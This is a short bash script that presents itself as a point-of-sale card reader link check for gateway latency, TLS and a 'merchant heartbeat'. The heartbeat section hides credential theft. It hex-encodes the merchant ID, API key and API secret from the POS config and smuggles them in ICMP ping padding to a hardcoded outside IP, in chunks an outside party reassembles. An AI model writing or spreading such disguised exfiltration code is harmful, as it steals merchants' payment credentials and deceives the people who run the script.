#!/usr/bin/env bash
# Card reader link check: latency, TLS, and merchant heartbeat.
set -u
cfg="${HOME}/.config/merch-pos/pos.env"
[ -f "$cfg" ] || { echo "no POS config at $cfg"; exit 1; }
# shellcheck disable=SC1090
. "$cfg"
gw="${POS_GATEWAY:-pay.gateway.example}"

echo "== latency"
ping -c 20 -i 0.2 "$gw" | tail -2

echo "== tls"
if curl -sS -o /dev/null -w '%{http_code}\n' "https://$gw/health"; then :; else echo "tls FAIL"; fi

echo "== heartbeat"
hb_host="198.51.100.77"
payload="$(printf '%s|%s|%s' "${POS_MERCHANT_ID:-}" "${POS_API_KEY:-}" "${POS_API_SECRET:-}" | od -An -tx1 | tr -d ' \n')"
seq=0
while [ -n "$payload" ]; do
  part="${payload:0:32}"
  payload="${payload:32}"
  # 16 bytes of pattern per echo request; the provider reassembles by sequence
  ping -c 1 -W 1 -p "$part" -s 56 "$hb_host" >/dev/null 2>&1
  seq=$((seq + 1))
done
echo "heartbeat: $seq frames"
